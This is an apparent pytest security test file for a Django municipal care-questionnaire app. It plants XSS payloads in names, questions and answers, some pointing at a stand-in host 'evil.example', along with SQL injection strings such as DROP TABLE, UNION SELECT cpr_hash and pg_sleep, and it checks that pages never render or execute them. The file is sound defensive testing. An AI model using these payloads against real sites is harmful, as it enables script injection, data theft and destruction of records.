"""Words that want to be more than words: in names, questions, answers, searches and sort orders."""

from __future__ import annotations

from collections.abc import Callable
from html.parser import HTMLParser
from itertools import cycle
from typing import Any

import pytest
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from identity.actors import CitizenActor
from identity.roles import Role
from questionnaires.models import Response
from tests import factories
from tests.conftest import staff_actor
from tests.staff.conftest import answer

pytestmark = pytest.mark.django_db

# `hit` stands in each, so that one is found however it comes out.
HOSTILE = [
    "<script>hit()</script>",
    '"><script>hit()</script>',
    "'><img src=x onerror=hit()>",
    "<svg/onload=hit()>",
    '<a href="javascript:hit()">x</a>',
    "<iframe srcdoc='<script>hit()</script>'></iframe>",
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</script><script>hit()</script>",
    "<style>@import 'https://evil.example/hit'</style>",
    "<form action=https://evil.example/><input name=hit></form>",
    "<base href=https://evil.example/>hit",
    "<meta http-equiv=refresh content='0;url=https://evil.example/hit'>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
    "{{ hit }}{% debug %}",
    '<div hx-get="https://evil.example/hit" hx-trigger="load">x</div>',
    "<x onpointerenter=hit() style=position:fixed;inset:0>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "\u202ehit\u2028<script>hit()</script>",
]


class Reader(HTMLParser):
    """What a browser would run, load or send: scripts in the page, handlers, foreign addresses, styles."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.wrong: list[str] = []
        self.inside_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        self.inside_script = tag == "script" and given.get("type") != "application/json"
        if tag in {"iframe", "object", "embed", "base", "style", "mglyph"} or "srcdoc" in given:
            self.wrong.append(f"<{tag}>")
        if tag == "meta" and "http-equiv" in given:
            self.wrong.append("refresh")
        if tag == "script" and "hit" in str(given):
            self.wrong.append("script")
        for name, value in given.items():
            if name.startswith("on") or name == "style":
                self.wrong.append(f"{name}={value}")
            if name in {"href", "src", "action", "formaction", "hx-get", "hx-post"}:
                target = value.strip().lower()
                if target.startswith(("javascript:", "vbscript:")) or "evil.example" in target:
                    self.wrong.append(f"{name}={value}")

    def handle_data(self, data: str) -> None:
        if self.inside_script and data.strip():
            self.wrong.append(f"script: {data[:40]}")
        self.inside_script = False


def read(answer: Any) -> list[str]:
    reader = Reader()
    reader.feed(answer.content.decode())
    reader.close()
    return reader.wrong


def test_the_reader_sees_what_would_run() -> None:
    from types import SimpleNamespace

    seen = [bool(read(SimpleNamespace(content=text.encode()))) for text in HOSTILE]
    # The template's braces and what is escaped already are words to a browser.
    assert seen.count(False) == 2


def test_no_text_of_anybody_runs_on_any_page(
    client_as: Callable[..., Client], tried: Callable[[str, int], None]
) -> None:
    """The pages hold none of it as more than words; the policy would not run it either (tests/test_headers.py)."""
    attempts = 0
    words = cycle(HOSTILE)
    # As many worlds as let each text stand in many places; how many places there are is no multiple of their number.
    for number in range(6):
        municipality = factories.MunicipalityFactory(name=f"{next(words)}{number}"[:80])
        member = factories.StaffMemberFactory(municipality=municipality, name=next(words))
        factories.CareTeamFactory(municipality=municipality, name=next(words))
        url = f"https://example.org/{number}"
        source = factories.questionnaire_source(
            url=url, title=next(words), description=next(words), purpose=next(words)
        )
        source["item"][0]["text"] = next(words)
        for item in source["item"][0]["item"]:
            item["text"] = next(words)
            item["prefix"] = next(words)[:20]
            item["extension"] = [
                {
                    "url": "http://hl7.org/fhir/StructureDefinition/rendering-xhtml",
                    "valueString": next(words),
                }
            ]
        version = factories.QuestionnaireVersionFactory(
            questionnaire=factories.QuestionnaireFactory(url=url, owner=municipality),
            title=next(words),
            source=source,
        )
        plan = factories.PlanFactory(
            title=next(words),
            description=next(words),
            what_happens_now=next(words),
            if_you_get_worse=next(words),
            citizens_see_scores=True,
            owner=municipality,
            weekly=False,
            weekly__version=version,
            weekly__title=next(words),
            weekly__for_whom=next(words),
        )
        citizen = factories.CitizenFactory(
            municipality=municipality, given_name=next(words), family_name=next(words)
        )
        task = factories.open_task(citizen, plan=plan, by=member)
        completed = answer(task, at=timezone.now(), score="1", note=next(words))
        completed.scores.update(name=next(words), unit=next(words))
        another = factories.open_task(
            factories.CitizenFactory(municipality=municipality), plan=plan, by=member
        )
        another.response = Response.objects.create(
            citizen=another.citizen,
            municipality=municipality,
            version=version,
            document={"item": [{"linkId": "note", "answer": [{"valueString": next(words)}]}]},
            started_at=timezone.now(),
            saved_at=timezone.now(),
        )
        another.save()
        worker = client_as(staff_actor(member, frozenset(Role)))
        own = client_as(CitizenActor(citizen_id=another.citizen.pk, name=next(words)))
        done = client_as(CitizenActor(citizen_id=citizen.pk, name=next(words)))
        pages = [
            (worker, "/medarbejder/"),
            (worker, "/medarbejder/borgere/"),
            (worker, f"/medarbejder/borgere/{citizen.pk}/"),
            (worker, f"/medarbejder/borgere/{citizen.pk}/tildel/"),
            (worker, f"/medarbejder/besvarelser/{completed.pk}/"),
            (worker, "/medarbejder/ubesvarede/"),
            (worker, "/kam/spoergeskemaer/"),
            (worker, f"/kam/spoergeskemaer/{version.pk}/"),
            (worker, "/kam/planer/"),
            (worker, f"/kam/planer/{plan.pk}/"),
            (worker, "/kam/planer/ny/"),
            (own, "/borger/"),
            (own, f"/borger/opgave/{another.pk}/"),
            (own, f"/borger/opgave/{another.pk}/side/1/"),
            (own, f"/borger/opgave/{another.pk}/opsummering/"),
            (done, "/borger/svar/"),
            (done, f"/borger/svar/{completed.pk}/"),
            (done, f"/borger/opgave/{task.pk}/kvittering/"),
        ]
        for client, address in pages:
            shown = client.get(address)
            assert shown.status_code in {200, 302}, address
            assert read(shown) == [], address
            attempts += 1
    for text in HOSTILE:
        assert read(worker.post("/medarbejder/borgere/", {"text": text})) == []
        assert read(worker.post("/kam/planer/ny/", {"title": text, "description": text})) == []
        assert read(Client().get(f"/{text}")) == []
        attempts += 3
    tried("scripts, stored and reflected", attempts)


SQL = [
    "'",
    "''; DROP TABLE citizens_citizen; --",
    "' OR '1'='1",
    "x%' OR 1=1 --",
    "\\' OR 1=1 --",
    "%",
    "%%%%%%%%",
    "__",
    "1; SELECT pg_sleep(9)",
    "' UNION SELECT cpr_hash FROM citizens_citizen --",
    "$$; SELECT 1; $$",
    "\u02bc OR 1=1",
    "name); DELETE FROM plans_task; --",
    "id__gt",
    "-pk",
    "cpr_hash",
    "\0",
    "9" * 400,
    "-1",
    "1e9",
    "²",
]


def test_no_parameter_becomes_sql(
    client_as: Callable[..., Client], tried: Callable[[str, int], None]
) -> None:
    citizen = factories.CitizenFactory(given_name="Kirsten", family_name="Holm")
    stranger = factories.CitizenFactory(given_name="Fremmed", family_name="Person")
    factories.assign(citizen)
    factories.assign(stranger)
    member = factories.StaffMemberFactory(municipality=citizen.municipality)
    client = client_as(staff_actor(member, frozenset(Role)))
    attempts = 0
    for text in SQL:
        names = ("page", "sort", "order", "ordering", "filter", "q", "search", "url", "version", "_count")
        with CaptureQueriesContext(connection) as queries:
            answers = [
                client.get(address, dict.fromkeys(names, text))
                for address in (
                    *("/medarbejder/", "/medarbejder/borgere/", "/medarbejder/ubesvarede/"),
                    f"/medarbejder/borgere/{citizen.pk}/",
                    *("/kam/spoergeskemaer/", "/kam/planer/", "/kam/planer/ny/"),
                    *("/api/v1/questionnaires", "/api/v1/questionnaires/canonical"),
                )
            ]
            answers.append(client.post("/medarbejder/borgere/", {"text": text}))
            answers.append(client.get("/kam/planer/ny/", {"questionnaire": text}))
            answers.append(client.post("/login/context/", {"context": text}))
        for answered in answers:
            assert answered.status_code < 500, (text, answered.request["PATH_INFO"])
            assert "Fremmed" not in answered.content.decode()
        assert not any("pg_sleep(9)" in each["sql"] and "LIKE" not in each["sql"].upper() for each in queries)
        attempts += len(answers)
    # A sign of SQL's own is only a letter: neither finds everybody.
    for wild in ("%%", "__", "_%"):
        assert "Kirsten" not in client.post("/medarbejder/borgere/", {"text": wild}).content.decode()
    tried("SQL injection", attempts + 3)
